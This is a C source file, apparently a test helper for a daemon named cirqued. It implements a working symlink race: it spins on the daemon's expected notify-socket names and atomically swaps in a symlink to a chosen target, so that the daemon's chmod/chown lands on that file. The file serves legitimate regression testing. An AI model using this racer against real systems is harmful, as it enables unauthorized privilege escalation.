/* attack_racer.c - the attacker of test_attack_notify_dir.sh, run as an unprivileged user who owns
 * the notify directory DIR. cirqued names each notify socket DIR/<daemon pid>-<counter>.sock and,
 * right after bind(), chmods and chowns that path. This spins on the next expected name and, as
 * soon as a socket appears there, renames a symbolic link to TARGET over it (one atomic step), so
 * that a chmod/chown which follows links lands on TARGET.
 *
 *   attack_racer DIR DAEMON_PID TARGET COUNT
 *
 * Stops after COUNT names, 25 s or SIGTERM, and prints how many sockets it replaced. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static volatile sig_atomic_t stop;

static void on_term(int sig)
{
	(void)sig;
	stop = 1;
}

int main(int argc, char **argv)
{
	char name[96], next[96], tmp[64];
	struct stat st;
	int dfd, n = 0, count, swapped = 0;
	unsigned long spins = 0;
	time_t end = time(NULL) + 25;

	if (argc != 5)
		return 2;
	count = atoi(argv[4]);
	signal(SIGTERM, on_term);
	dfd = open(argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (dfd < 0) {
		perror(argv[1]);
		return 2;
	}
	snprintf(tmp, sizeof(tmp), ".racer-%d", (int)getpid());
	unlinkat(dfd, tmp, 0);
	if (symlinkat(argv[3], dfd, tmp) < 0) {
		perror("symlink");
		return 2;
	}
	while (n < count && !stop) {
		snprintf(name, sizeof(name), "%s-%d.sock", argv[2], n);
		if (fstatat(dfd, name, &st, AT_SYMLINK_NOFOLLOW) == 0 && S_ISSOCK(st.st_mode)) {
			if (renameat(dfd, tmp, dfd, name) == 0)
				swapped++;
			symlinkat(argv[3], dfd, tmp);
			n++;
			continue;
		}
		/* Missed one (it came and went, or its spawn failed before bind): move on. */
		if ((++spins & 1023) == 0) {
			snprintf(next, sizeof(next), "%s-%d.sock", argv[2], n + 1);
			if (fstatat(dfd, next, &st, AT_SYMLINK_NOFOLLOW) == 0)
				n++;
			if (time(NULL) > end)
				break;
		}
	}
	unlinkat(dfd, tmp, 0);
	printf("racer: replaced %d of %d sockets\n", swapped, n);
	return 0;
}
